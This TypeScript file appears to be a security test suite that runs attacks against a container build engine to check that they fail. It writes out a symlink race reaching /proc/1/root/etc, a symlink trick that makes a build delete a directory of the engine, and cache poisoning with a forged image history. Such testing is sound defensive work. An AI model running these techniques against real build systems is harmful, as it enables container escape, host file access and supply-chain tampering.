import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { sha256 } from '../../../guest-agent/store/digest.ts';
import { type TarEntry, writeTar } from '../../../guest-agent/store/testing/tar-writer.ts';
import { type Answer, ask } from '../../fixtures/ask.ts';
import { file, PAYLOAD } from '../archives/archive.ts';
import { BOX, remove } from '../engine/box.ts';
import type { HostileEngine } from '../engine/start.ts';

const run = promisify(execFile);

/** BuildKit's builder, with this Dockerfile. */
function buildWith(socket: string, dockerfile: string, tag = ''): Promise<Answer> {
  const body = writeTar([{ name: 'Dockerfile', content: dockerfile }]);
  return ask(socket, { method: 'POST', path: `/build?version=2&nocache=1&t=${tag}`, body });
}

/** One build swaps a directory of a cache for a link while another mounts the directory. */
export async function swapInCache({ socket }: HostileEngine): Promise<string[]> {
  const cache = (more: string, command: string) =>
    `FROM ${BOX}\nRUN --mount=type=cache,id=swapped,sharing=shared,${more} ${command}\n`;
  const swap =
    'mkdir -p /c/sub; for i in $(seq 400); do mv /c/sub /c/d; ln -s /proc/1/root/etc /c/sub; rm /c/sub; mv /c/d /c/sub; done';
  const swapping = buildWith(socket, cache('target=/c', swap));
  const seen: string[] = [];
  for (let count = 0; count < 5; count++) {
    const { text } = await buildWith(socket, cache('source=sub,target=/m', 'ls /m /m/..'));
    if (text.includes('nftables.conf')) seen.push(text.slice(0, 500));
  }
  await swapping;
  await ask(socket, { method: 'POST', path: '/build/prune?all=1' });
  return seen;
}

/** A step puts a link to a directory of the engine above the place of its mount, which is removed later. */
export async function removeMountPoint({ socket, pid }: HostileEngine): Promise<string[]> {
  const victim = '/run/mount-points/victim';
  const inside = (command: string) =>
    run('nsenter', ['--target', String(pid), '--mount', 'sh', '-c', command]);
  await inside(`mkdir -p ${victim}`);
  const command = 'sh -c "mv /x /y; ln -s /run/mount-points /x; ls -ld /x"';
  for (const type of ['tmpfs', 'cache', 'bind']) {
    await buildWith(socket, `FROM ${BOX}\nRUN --mount=type=${type},target=/x/victim ${command}\n`);
  }
  const { stdout } = await inside(`ls -d ${victim} || true; rm -rf /run/mount-points`);
  await ask(socket, { method: 'POST', path: '/build/prune?all=1' });
  return stdout.trim() === victim ? [] : [`the build removed ${victim}`];
}

/** An image from elsewhere says that the steps of another's Dockerfile made it. */
export async function poisonCache({ socket }: HostileEngine): Promise<string[]> {
  const context = writeTar([
    file('Dockerfile', { content: 'FROM scratch\nCOPY file /file\nHEALTHCHECK CMD /file\n' }),
    file('file'),
  ]);
  const build = async () => {
    const { text } = await ask(socket, {
      method: 'POST',
      path: '/build?t=victim:1',
      body: context,
    });
    if (!text.includes('Successfully')) throw new Error(`can't build: ${text}`);
    return JSON.parse((await ask(socket, { path: '/images/victim:1/json' })).text);
  };
  const honest = await build();
  const steps = JSON.parse((await ask(socket, { path: '/images/victim:1/history' })).text);
  await remove(socket, '/images/victim:1?force=1');
  await ask(socket, { method: 'POST', path: '/build/prune?all=1' });
  const layer = writeTar([file(PAYLOAD)]);
  const config = {
    ...{ os: honest.Os, architecture: honest.Architecture, config: honest.Config },
    container_config: { ...honest.Config, Cmd: [steps[0].CreatedBy] },
    history: steps.reverse().map(({ CreatedBy, Size }: { CreatedBy: string; Size: number }) => ({
      created_by: CreatedBy,
      ...(Size === 0 && { empty_layer: true }),
    })),
    rootfs: { type: 'layers', diff_ids: [sha256(layer)] },
  };
  await loadImage(socket, JSON.stringify(config), layer);
  const { RootFS } = await build();
  for (const image of ['victim:1', 'poison:1']) await remove(socket, `/images/${image}?force=1`);
  const isPoisoned = RootFS.Layers.includes(sha256(layer));
  return isPoisoned ? ['the build took a layer of the image from elsewhere'] : [];
}

async function loadImage(socket: string, config: string, layer: Buffer): Promise<void> {
  const manifest = [{ Config: 'config.json', RepoTags: ['poison:1'], Layers: ['layer.tar'] }];
  const entries: TarEntry[] = [
    file('config.json', { content: config }),
    file('layer.tar', { content: layer }),
    file('manifest.json', { content: JSON.stringify(manifest) }),
  ];
  const body = writeTar(entries);
  const { text } = await ask(socket, { method: 'POST', path: '/images/load?quiet=1', body });
  if (!text.includes('Loaded image')) throw new Error(`can't load the image: ${text}`);
}
